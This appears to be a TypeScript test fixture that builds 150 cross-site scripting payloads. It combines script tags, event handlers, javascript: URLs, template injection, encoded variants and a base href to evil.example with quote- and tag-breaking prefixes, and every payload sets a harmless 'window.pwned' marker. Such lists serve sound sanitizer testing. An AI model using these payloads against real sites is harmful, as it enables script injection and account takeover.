const code = 'window.pwned=1'

const carriers = [
  `<script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${code}</script>">`,
  `<iframe src="javascript:parent.${code}">`,
  `<body onload=${code}>`,
  `<details open ontoggle=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<video><source onerror=${code}></video>`,
  `<a href="javascript:${code}">x</a>`,
  `<object data="javascript:${code}">`,
  `<math><mtext><img src=x onerror=${code}></mtext></math>`,
  `<style>@import'javascript:${code}'</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<link rel=stylesheet href="javascript:${code}">`,
  `<marquee onstart=${code}>`,
  `[x](javascript:${code})`,
  `{{constructor.constructor('${code}')()}}`,
  `javascript:${code}`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `%3Cscript%3E${code}%3C/script%3E`,
]

const doors = [
  (text: string) => text,
  ...['">', "'>", '</script>', '-->', '</title></textarea></noscript>'].map(
    (door) => (text: string) => door + text,
  ),
]

/** 150 texts that run a script wherever a page writes them down carelessly; each is at most 100 characters. */
export const payloads: readonly string[] = doors.flatMap((door) => carriers.map(door))
